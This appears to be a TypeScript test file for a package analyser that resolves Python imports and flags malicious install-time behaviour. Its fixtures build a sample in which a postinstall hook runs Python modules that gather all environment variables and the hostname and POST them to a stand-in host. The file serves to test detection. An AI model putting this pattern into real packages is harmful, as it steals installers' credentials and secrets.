import assert from 'node:assert/strict';
import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
import { partAt, pythonParts } from '../../../../../server/src/artifacts/analysis/files/scripts/python-imports.js';
import { packageOf } from '../../../../support/artifacts.js';

const WIRE = `import urllib.request\n\ndef ship(host, *parts):\n    body = b"".join(parts)\n    urllib.request.urlopen(urllib.request.Request("https://collect.invalid", data=body))\n`;
const COLLECT = `import os\nimport socket\nfrom .wire import ship\n\ndef check():\n    env = "".join(f"{k}={v}" for k, v in os.environ.items())\n    ship(socket.gethostname(), b"x", env.encode())\n`;

describe('modules that a Python script imports', () => {
  const parts = (files: Readonly<Record<string, string>>): readonly string[] =>
    pythonParts('scripts/run.py', files['scripts/run.py'] ?? '', (path) => files[path]).map(({ path }) => path);

  it('come first, each once, by name and by how far up they lie', () => {
    assert.deepEqual(
      parts({
        'scripts/run.py': 'import os, tools.a as a\nfrom lib import (b, missing)\nfrom lib.c import d\n',
        'scripts/tools/a.py': 'from ..lib import b\nimport run\n',
        'scripts/lib/__init__.py': '',
        'scripts/lib/b.py': 'from . import c\n',
        'scripts/lib/c.py': 'import lib.b\n',
        'lib/b.py': '',
      }).slice(-1),
      ['scripts/run.py'],
    );
    assert.deepEqual(
      [
        ...parts({
          'scripts/run.py': 'from lib import b\n',
          'scripts/lib/b.py': 'from .c import d\n',
          'scripts/lib/c.py': '',
        }),
      ],
      ['scripts/lib/c.py', 'scripts/lib/b.py', 'scripts/run.py'],
    );
    assert.deepEqual(parts({ 'scripts/run.py': 'import json\nfrom pandas import DataFrame\n' }), ['scripts/run.py']);
  });

  it('have places of their own', () => {
    const all = pythonParts('run.py', 'import a\nb()', (path) => (path === 'a.py' ? 'a = 1' : undefined));
    assert.deepEqual([partAt(all, 2)?.part.path, partAt(all, 2)?.offset], ['a.py', 2]);
    assert.deepEqual([partAt(all, 8)?.part.path, partAt(all, 8)?.offset], ['run.py', 2]);
  });

  it('do together what none of them does', () => {
    const behaviours = (collect: string): readonly string[] =>
      analysePackage(
        packageOf({
          'package.json': '{"scripts":{"postinstall":"python3 scripts/run.py"}}',
          'scripts/run.py': 'from support import collect\n\ncollect.check()\n',
          'scripts/support/collect.py': collect,
          'scripts/support/wire.py': WIRE,
        }),
      ).behaviours.map(({ kind, moment, place }) => `${kind} ${moment} ${place.file}`);
    assert.deepEqual([...new Set(behaviours(COLLECT))], ['command-sends-data install scripts/support/wire.py']);
    assert.deepEqual(behaviours(COLLECT.replace(', env.encode()', '')), []);
  });
});
